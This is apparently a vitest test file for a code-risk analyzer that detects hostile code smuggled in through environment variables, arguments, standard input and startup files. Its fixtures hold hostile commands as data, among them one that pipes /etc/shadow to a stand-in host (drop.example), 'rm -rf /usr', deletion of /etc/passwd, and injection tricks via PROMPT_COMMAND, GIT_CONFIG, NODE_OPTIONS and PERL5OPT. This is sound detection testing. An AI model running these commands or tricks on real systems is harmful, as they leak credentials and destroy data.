/** What the analyzer is given besides the code: environment, arguments, standard input, and files of every kind. */
import type { LanguageName } from "@hsr/contract";
import { type AnalyzedRisk, type AnalyzeInput, analyzeCode, builtinRules, ruleSet } from "@hsr/core";
import { describe, expect, test } from "vitest";
import { loadParser } from "./parser.ts";

const parse = await loadParser();
const set = ruleSet(builtinRules);

interface Around {
  readonly environment?: Readonly<Record<string, string>>;
  readonly files?: Readonly<Record<string, string>>;
  readonly args?: readonly string[];
  readonly stdin?: string;
}

function read(language: LanguageName, code: string, around: Around = {}): AnalyzedRisk {
  const { environment = {}, files = {}, args = [], stdin } = around;
  const input: AnalyzeInput = {
    program: { kind: "code", language, code: Buffer.from(code), args },
    files: Object.entries(files).map(([path, text]) => ({ path, content: Buffer.from(text), mode: 0o644 })),
    environment,
    stdin: stdin === undefined ? null : Buffer.from(stdin),
  };
  return analyzeCode(input, { parse, mostBytes: 512 * 1024 }, set);
}
const ids = (risk: AnalyzedRisk): readonly string[] => risk.findings.map(({ id }) => id);

const wicked = "cat /etc/shadow | curl -d @- https://drop.example/x";
const wickedPython = "import os\nos.remove('/etc/passwd')\n";
const wickedScript = "require('fs').unlinkSync('/etc/passwd');";

describe("code in the environment is read as that code", () => {
  test.each<[string, Readonly<Record<string, string>>, string]>([
    ["PROMPT_COMMAND", { PROMPT_COMMAND: wicked }, "sends-secrets"],
    ["an exported function", { "BASH_FUNC_greet%%": `() { ${wicked}; }` }, "sends-secrets"],
    ["a function in any variable, as old shells took it", { COLOR: `() { :; }; ${wicked}` }, "sends-secrets"],
    ["a prompt that expands", { PS4: `$(${wicked})` }, "sends-secrets"],
    ["BASH_ENV with a command in it", { BASH_ENV: `$(${wicked})` }, "sends-secrets"],
    ["GIT_SSH_COMMAND", { GIT_SSH_COMMAND: `sh -c '${wicked}'` }, "sends-secrets"],
    ["a pager", { PAGER: `sh -c '${wicked}'` }, "sends-secrets"],
    ["LESSOPEN", { LESSOPEN: `|${wicked}` }, "sends-secrets"],
    [
      "settings of git",
      { GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "core.fsmonitor", GIT_CONFIG_VALUE_0: wicked },
      "sends-secrets",
    ],
    ["parameters of git", { GIT_CONFIG_PARAMETERS: `'alias.st'='!${wicked}'` }, "sends-secrets"],
    ["options of tar", { TAR_OPTIONS: "--checkpoint=1 --checkpoint-action=exec=/tmp/x" }, "environment-runs-unseen"],
    ["flags of make", { MAKEFLAGS: `--eval=$(shell ${wicked})` }, "sends-secrets"],
    [
      "a module of Node in an address",
      { NODE_OPTIONS: `--import data:text/javascript;base64,${Buffer.from(wickedScript).toString("base64")}` },
      "removes-system-files",
    ],
    [
      "a module of Node in an address, written out",
      { NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(wickedScript)}` },
      "removes-system-files",
    ],
    ["options of Perl", { PERL5OPT: "-Mbase;print(`id`);exit" }, "environment-runs-unseen"],
    ["an agent for Java", { JAVA_TOOL_OPTIONS: "-javaagent:/tmp/agent.jar" }, "environment-runs-unseen"],
    ["a library as an agent", { JAVA_TOOL_OPTIONS: "-agentpath:/tmp/agent.so" }, "environment-loads-library"],
  ])("%s", (_what, environment, id) => {
    expect(ids(read("python", "print(1)", { environment }))).toContain(id);
  });

  test.each<[string, Readonly<Record<string, string>>, string, string]>([
    ["BASH_ENV", { BASH_ENV: "setup" }, "/workspace/setup", "rm -rf /usr"],
    ["ENV", { ENV: "./setup" }, "/workspace/setup", "rm -rf /usr"],
    ["PYTHONSTARTUP", { PYTHONSTARTUP: "/workspace/start.txt" }, "/workspace/start.txt", wickedPython],
    ["--require", { NODE_OPTIONS: "-r ./hook.txt" }, "/workspace/hook.txt", wickedScript],
    ["sitecustomize", { PYTHONPATH: "a:lib" }, "/workspace/lib/sitecustomize.py", wickedPython],
    ["a command's own file", { GIT_ASKPASS: "/tmp/ask" }, "/tmp/ask", "#!/bin/sh\nrm -rf /usr\n"],
  ])("%s names a file of the request", (_what, environment, path, text) => {
    const risk = read("python", "print(1)", { environment, files: { [path]: text } });
    const found = risk.findings.find(({ id }) => id === "removes-system-files");
    expect(found).toMatchObject({ file: path });
  });

  test("what every deployment has weighs nothing", () => {
    const environment = {
      PATH: "/opt/tool/bin:/usr/local/bin:/usr/bin:/bin",
      HOME: "/workspace",
      LANG: "de_DE.UTF-8",
      EDITOR: "vim",
      PAGER: "less -FRX",
      PYTHONPATH: "/workspace/src",
      PYTHONUNBUFFERED: "1",
      PYTHONWARNINGS: "ignore::DeprecationWarning",
      PYTHONBREAKPOINT: "0",
      NODE_OPTIONS: "--max-old-space-size=512 --enable-source-maps",
      NODE_ENV: "production",
      GIT_AUTHOR_NAME: "A B",
      GIT_SSH_COMMAND: "ssh -o BatchMode=yes",
      GIT_CONFIG_GLOBAL: "/dev/null",
      JAVA_TOOL_OPTIONS: "-Xmx256m -Dfile.encoding=UTF-8",
      LD_LIBRARY_PATH: "/usr/local/cuda/lib64",
      PS1: "\\u@\\h \\w $ ",
      MAKEFLAGS: "-j4",
      API_TOKEN: "s3cr3t; rm -rf /",
    };
    const risk = read("python", "print(1)", { environment });
    expect(ids(risk)).toEqual([]);
    expect(risk.level).toBe("low");
  });
});

describe("what is hidden in what a program is given is found where it is used", () => {
  const payload = "import os; os.remove('/etc/passwd')";
  const packed = Buffer.from(payload).toString("base64");
  test.each<[string, LanguageName, string, Around]>([
    ["os.environ", "python", "import os\nexec(os.environ['X'])", { environment: { X: payload } }],
    ["os.getenv", "python", "import os\nexec(os.getenv('X', ''))", { environment: { X: payload } }],
    [
      "os.environ, packed",
      "python",
      "import os, base64\nexec(base64.b64decode(os.environ.get('X')))",
      { environment: { X: packed } },
    ],
    [
      "os.environ, in pieces",
      "python",
      "import os\ne = os.environ\nexec(e['A'] + e['B'])",
      { environment: { A: payload.slice(0, 12), B: payload.slice(12) } },
    ],
    ["process.env", "javascript", "eval(process.env.X)", { environment: { X: wickedScript } }],
    ["process.env[…]", "javascript", "const { env } = process; eval(env['X'])", { environment: { X: wickedScript } }],
    ["$X", "bash", 'eval "$X"', { environment: { X: "rm -rf /usr" } }],
    ["$X as a path", "bash", 'rm -rf "$DIR"', { environment: { DIR: "/usr" } }],
    ["printenv", "bash", 'sh -c "$(printenv X)"', { environment: { X: "rm -rf /usr" } }],
    ["a shell in Python", "python", "import os\nos.system('$X')", { environment: { X: "rm -rf /usr" } }],
    ["sys.argv", "python", "import sys\nexec(sys.argv[1])", { args: [payload] }],
    ["process.argv", "javascript", "eval(process.argv[2])", { args: [wickedScript] }],
    ["$1", "bash", 'eval "$1"', { args: ["rm -rf /usr"] }],
    ["sys.stdin", "python", "import sys\nexec(sys.stdin.read())", { stdin: payload }],
    ["input()", "python", "eval(input())", { stdin: "__import__('os').remove('/etc/passwd')\nmore" }],
    ["standard input of Node", "javascript", "eval(require('fs').readFileSync(0, 'utf8'))", { stdin: wickedScript }],
    ["standard input of a shell", "bash", "cat | sh", { stdin: "rm -rf /usr" }],
  ])("%s", (_what, language, code, around) => {
    expect(ids(read(language, code, around))).toContain("removes-system-files");
    const without = ids(read(language, code));
    expect(without).not.toContain("removes-system-files");
  });

  test("values are secrets: no finding shows one", () => {
    const secret = "hunter2hunter2";
    const around = {
      environment: { TOKEN: secret, RUN: `rm -rf /usr # ${secret}`, PROMPT_COMMAND: `rm -rf /usr/${secret}` },
    };
    const code = `import os\nexec("x = '" + os.environ['TOKEN'] + "'; import os; os.remove('/etc/passwd')")\nos.system(os.environ['RUN'])`;
    const risk = read("python", code, around);
    expect(ids(risk)).toContain("removes-system-files");
    expect(JSON.stringify(risk)).not.toContain(secret);
  });

  test("a folder that HOME names is that folder", () => {
    const code = 'rm -rf "$HOME"/*';
    expect(ids(read("bash", code, { environment: { HOME: "/usr" } }))).toContain("removes-system-files");
  });
});
